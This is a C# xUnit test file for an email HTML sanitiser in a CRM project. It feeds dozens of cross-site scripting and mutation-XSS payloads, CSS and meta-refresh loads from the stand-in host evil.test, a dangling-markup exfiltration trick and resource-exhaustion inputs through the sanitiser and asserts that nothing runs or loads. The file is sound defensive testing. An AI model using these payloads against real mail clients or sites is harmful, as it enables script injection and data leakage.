using System.Text.Json;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using SimpleCrm.Mail;
using Xunit;

namespace SimpleCrm.Tests.Mail;

public sealed class SafeHtmlTests
{
    private static readonly string[] Forbidden =
    [
        "script", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math", "template", "textarea", "select", "noscript",
        "audio", "video", "source", "frame", "frameset", "applet", "xmp", "title", "canvas", "marquee",
    ];

    [Fact]
    public void Attack_payloads_leave_nothing_that_runs_or_loads()
    {
        var table = new CorpusTable("html/xss");
        using var json = JsonDocument.Parse(File.ReadAllBytes(Path.Combine(MailCorpus.Folder("html/xss"), "dompurify-even.json")));
        var index = 0;
        foreach (var item in json.RootElement.EnumerateArray())
        {
            var payload = item.GetProperty("payload").GetString()!;
            table.Check($"#{index++}", () => Dangers(payload));
        }
        table.Finish();
    }

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"\u0001javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [InlineData("<a href=\"javascript\u200B:alert(1)\">x</a>")]
    [InlineData("<div style=\"background:url(javascript:alert(1))\">x</div>")]
    [InlineData("<div style=\"background:u\\72l(//evil.test/x)\">x</div>")]
    [InlineData("<div style=\"background-image:image-set('//evil.test/x' 1x)\">x</div>")]
    [InlineData("<div style=\"width:expression(alert(1))\">x</div>")]
    [InlineData("<div style=\"position:fixed!important;inset:0;z-index:99999\">x</div>")]
    [InlineData("<div style='color:red;} body{background:url(//evil.test)'>x</div>")]
    [InlineData("<style>@import url(//evil.test/a.css);a{background:url(//evil.test/x)}</style>")]
    [InlineData("<style>a[href^=\"x\"]{color:red}*{content:url(//evil.test)}</style>")]
    [InlineData("<style></style><style></sty\0le><script>alert(1)</script>")]
    [InlineData("<style>x{}</style\t><img src=//evil.test/x>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=//evil.test\">")]
    [InlineData("<base href=//evil.test><a href=/x>x</a>")]
    [InlineData("<form action=//evil.test><input name=a><button>Go</button></form>")]
    [InlineData("<link rel=stylesheet href=//evil.test/x.css>")]
    [InlineData("<video poster=//evil.test/x><source src=//evil.test/y></video>")]
    [InlineData("<img srcset=\"//evil.test/x 2x\">")]
    [InlineData("<table background=//evil.test/x><td background=//evil.test/y>x</table>")]
    [InlineData("<input type=image src=//evil.test/x>")]
    [InlineData("<body background=//evil.test/x onload=alert(1)>x")]
    [InlineData("<a id=Blazor name=Blazor class=mud-overlay target=_top>x</a>")]
    [InlineData("<div onclick=alert(1) data-x=1 contenteditable autofocus tabindex=1>x</div>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=//evil.test/x><embed src=//evil.test/y>")]
    [InlineData("<p>\0<scr\0ipt>alert(1)</scr\0ipt>")]
    [InlineData("<a href=x onclick=alert(1)//<b>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!--[if gte mso 9]><script>alert(1)</script><![endif]-->")]
    [InlineData("<select><style></select><img src=x onerror=alert(1)></style>")]
    [InlineData("<plaintext><script>alert(1)</script>")]
    [InlineData("<listing>&lt;img onerror=alert(1) src=x&gt;</listing>")]
    [InlineData("<img src=\"cid:unknown\"><img src=\"file:///etc/passwd\"><img src=\"\\\\evil.test\\x\">")]
    public void Attacks_written_for_mail_leave_nothing_that_runs_or_loads(string html) => Assert.Null(Dangers(html));

    [Theory]
    [InlineData("html/newsletters")]
    [InlineData("html/transactional")]
    public void Real_mail_stays_readable_and_loads_nothing(string folder)
    {
        var table = new CorpusTable(folder);
        foreach (var file in Directory.GetFiles(MailCorpus.Folder(folder)))
        {
            var html = file.EndsWith(".eml", StringComparison.Ordinal) ? Reading.File(file).BodyHtml! : File.ReadAllText(file);
            table.Check(Path.GetFileName(file), () => Dangers(html) ?? LostWords(html));
        }
        table.Finish();
    }

    [Fact]
    public void Layout_of_transactional_mail_survives()
    {
        var html = File.ReadAllText(Path.Combine(MailCorpus.Folder("html/transactional"), "receipt.html"));
        var safe = SafeHtml.Sanitise(html, SafeHtmlOptions.Default);
        var (before, after) = (Parse(html), Parse(safe.Html));
        foreach (var tag in (string[])["table", "td", "a", "h1", "p"])
            Assert.Equal(before.QuerySelectorAll(tag).Length, after.QuerySelectorAll(tag).Length);
        Assert.Contains("@media", safe.Html, StringComparison.Ordinal);
        Assert.Contains(".m-email-body_inner", safe.Html, StringComparison.Ordinal);
        Assert.Equal(Widths(before), Widths(after));
        Assert.True(safe.HasColours);

        static int Widths(IDocument document) => document.QuerySelectorAll("[width]").Length;
    }

    [Fact]
    public void Remote_images_wait_for_consent_and_keep_their_size()
    {
        const string html = "<img src=https://a.test/x.png width=600 height=200 alt=Banner><img src='//a.test/y.png'><img src=https://a.test/p.gif width=1 height=1>";
        var blocked = SafeHtml.Sanitise(html, SafeHtmlOptions.Default);
        Assert.Equal((2, 1), (blocked.RemoteImagesBlocked, blocked.TrackingPixelsRemoved));
        Assert.DoesNotContain("a.test", blocked.Html, StringComparison.Ordinal);
        Assert.Contains("width=\"600\"", blocked.Html, StringComparison.Ordinal);

        var allowed = SafeHtml.Sanitise(html, new SafeHtmlOptions { AllowRemoteImages = true });
        Assert.Equal((0, 1), (allowed.RemoteImagesBlocked, allowed.TrackingPixelsRemoved));
        Assert.Contains("https://a.test/x.png", allowed.Html, StringComparison.Ordinal);
        Assert.DoesNotContain("p.gif", allowed.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Inline_images_are_found_by_their_content_id()
    {
        var safe = SafeHtml.Sanitise("<img src='cid:Logo%40x'><img src=CID:other>", new SafeHtmlOptions { InlineImage = id => id == "Logo@x" ? "/attachments/7" : null });
        Assert.Contains("src=\"/attachments/7\"", safe.Html, StringComparison.Ordinal);
        Assert.DoesNotContain("cid:", safe.Html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Links_open_apart_and_tell_nothing()
    {
        var safe = SafeHtml.Sanitise("<a href=https://a.test>a</a> <a href=www.b.test>b</a> <a href=mailto:c@x.test>c</a> <a href=tel:+44>d</a> <a href=/inbox>e</a> <a href=#top>f</a><a name=top>g</a>", SafeHtmlOptions.Default);
        var links = Parse(safe.Html).QuerySelectorAll("a");
        Assert.Equal(["https://a.test", "http://www.b.test", "mailto:c@x.test", "tel:+44", null, "#m-top", null], links.Select(a => a.GetAttribute("href")));
        Assert.All(links.Take(4), a => Assert.Equal(("_blank", "noopener noreferrer nofollow"), (a.GetAttribute("target"), a.GetAttribute("rel"))));
        Assert.Equal("m-top", links[6].Id);
    }

    [Fact]
    public void A_part_that_leaves_a_tag_open_cannot_swallow_the_next()
    {
        var email = Reading.Text(
            """
            From: a@x.test
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/html

            <p>One</p><img src="https://evil.test/?
            --b
            Content-Type: text/html

            secret words
            --b
            Content-Type: text/html

            "><!-- open
            --b--
            """);
        var safe = SafeHtml.Sanitise(email.BodyHtml!, new SafeHtmlOptions { AllowRemoteImages = true });
        Assert.DoesNotContain("evil.test", safe.Html, StringComparison.Ordinal);
        Assert.Contains("secret words", safe.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Hostile_pages_cost_bounded_time_and_no_stack()
    {
        string Many(string text, int count) => string.Concat(Enumerable.Repeat(text, count));
        foreach (var html in new[]
        {
            Many("<div>", 100_000), Many("<b>", 100_000), Many("<table><tr><td>", 50_000), Many("<blockquote>", 50_000), Many("<a href=x>", 50_000) + "x",
            string.Concat(Enumerable.Range(0, 20_000).Select(i => $"<font size={i}>")) + Many("<p>x", 20_000),
            string.Concat(Enumerable.Range(0, 20_000).Select(i => $"<b class=c{i}><table><td></b></table>")) + Many("<p>x", 20_000),
            Many("<blockquote></blockquote>", 30_000), Many("<hr>", 60_000), Many("<p>From: a</p>", 20_000), "<div " + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"a{i}=1 ")) + ">x",
            "<style>" + Many("a{", 100_000) + "</style>x", "<style>" + Many("a{}", 80_000) + "</style>x", Many("<!--", 100_000), Many("<", 500_000), Many("&", 500_000), Many("<svg>", 50_000),
            "<p style=\"" + Many("color:red;", 100_000) + "\">x</p>", Many("<details>", 50_000), Many("<ul><li>", 50_000), Many("</p>", 100_000),
        })
            Assert.NotNull(SafeHtml.Sanitise(html, SafeHtmlOptions.Default).Html);
    }

    [Fact]
    public void The_frame_lets_nothing_run_and_nothing_load()
    {
        var policy = EmailFrame.ContentSecurityPolicy(remoteImages: false);
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("script-src 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("sandbox", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("allow-scripts", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("https:", policy, StringComparison.Ordinal);
        Assert.Contains("https:", EmailFrame.ContentSecurityPolicy(remoteImages: true), StringComparison.Ordinal);
        var document = EmailFrame.Document(SafeHtml.FromText("Hi\n> quoted\n", SafeHtmlOptions.Default), dark: true, plainText: true);
        Assert.StartsWith("<!DOCTYPE html>", document, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", document, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("See https://a.test/x?y=1&z=2.", "https://a.test/x?y=1&z=2")]
    [InlineData("(www.a.test)", "http://www.a.test")]
    [InlineData("Write to ann@x.test!", "mailto:ann@x.test")]
    [InlineData("https://en.test/a_(b)", "https://en.test/a_(b)")]
    [InlineData("javascript:alert(1) http://", null)]
    [InlineData("<https://a.test/\"onclick=\"x>", "https://a.test/")]
    public void Plain_text_gets_links(string text, string? href)
    {
        var document = Parse(SafeHtml.FromText(text, SafeHtmlOptions.Default).Html);
        Assert.Equal(href, document.QuerySelector("a")?.GetAttribute("href"));
        Assert.Equal(text, document.Body!.TextContent.Replace('\u00A0', ' '));
    }

    private static IDocument Parse(string html) => new HtmlParser().ParseDocument(html);

    /// <summary>Null when the result is harmless and reads back unchanged.</summary>
    private static string? Dangers(string html)
    {
        var safe = SafeHtml.Sanitise(html, SafeHtmlOptions.Default).Html;
        var document = Parse(safe);
        foreach (var element in document.Body!.QuerySelectorAll("*").Concat(document.Head!.QuerySelectorAll("*")))
        {
            if (Forbidden.Contains(element.LocalName))
                return $"<{element.LocalName}> in {safe}";
            foreach (var attribute in element.Attributes)
            {
                var value = attribute.Value.ToLowerInvariant();
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name is "src" or "srcset" or "background" or "poster" or "action" or "data" or "formaction")
                    return $"{attribute.Name} in {safe}";
                if (attribute.Name == "href" && !(value.StartsWith("http:") || value.StartsWith("https:") || value.StartsWith("mailto:") || value.StartsWith("tel:") || value.StartsWith('#')))
                    return $"href {value}";
                if (attribute.Name == "style" && (value.Contains("url") || value.Contains("expression") || value.Contains("position") || value.Contains('\\') || value.Contains("image-set")))
                    return $"style {value}";
                if (attribute.Name is "id" or "name" && !value.StartsWith("m-"))
                    return $"{attribute.Name}={value}";
                if (attribute.Name == "class" && value.Split(' ').Any(c => !c.StartsWith("m-") && !c.StartsWith("sc-")))
                    return $"class={value}";
            }
            if (element.LocalName == "style" && (element.TextContent.Contains('<') || element.TextContent.Contains("url(", StringComparison.OrdinalIgnoreCase) || element.TextContent.Contains('@') && !element.TextContent.Contains("@media") || element.TextContent.Contains('\\')))
                return $"style sheet {element.TextContent}";
        }
        var twice = SafeHtml.Sanitise(safe, SafeHtmlOptions.Default with { FoldQuotes = false }).Html;
        return CorpusTable.Squeezed(Parse(twice).Body!.TextContent) == CorpusTable.Squeezed(document.Body!.TextContent) ? null : "text changes when sanitised again";
    }

    private static string? LostWords(string html)
    {
        var before = HtmlToText.Convert(html).Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries).ToHashSet();
        var after = HtmlToText.Convert(SafeHtml.Sanitise(html, SafeHtmlOptions.Default).Html).Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries).ToHashSet();
        var lost = before.Except(after).ToList();
        return lost.Count <= before.Count / 100 ? null : $"lost {lost.Count} of {before.Count}: {string.Join(' ', lost.Take(10))}";
    }
}
